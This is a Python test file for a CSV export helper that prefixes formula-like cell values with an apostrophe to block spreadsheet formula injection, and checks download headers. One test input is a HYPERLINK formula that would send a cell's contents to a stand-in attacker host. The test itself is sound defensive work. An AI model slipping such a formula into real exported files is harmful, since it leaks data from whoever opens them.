"""CSV that a spreadsheet opens and does not run."""

import csv
import io

import pytest

from core.spreadsheets import csv_answer


def read(answer):
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+15125550123",
        "-2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\xa0=1",
        "＝1",
        '=HYPERLINK("http://evil.example/?"&A1)',
    ],
)
def test_what_looks_like_a_formula_gets_an_apostrophe(text):
    assert read(csv_answer("a.csv", header=["Name"], rows=[[text]])) == [["Name"], [f"'{text}"]]


@pytest.mark.parametrize("text", ["Mia", "O'Brien", "a=b", 'the "Fish"', "one, two", "two\nlines", "मिया", "🐟", ""])
def test_other_texts_stay_as_they_are(text):
    assert read(csv_answer("a.csv", header=["Name"], rows=[[text, 7, None]])) == [["Name"], [text, "7", ""]]


def test_it_is_a_file_that_nobody_keeps_but_the_one_who_asked():
    answer = csv_answer("roster.csv", header=["A"], rows=[])
    assert answer.content == b"\xef\xbb\xbfA\r\n"
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="roster.csv"'
    assert answer["Cache-Control"] == "private, no-store"
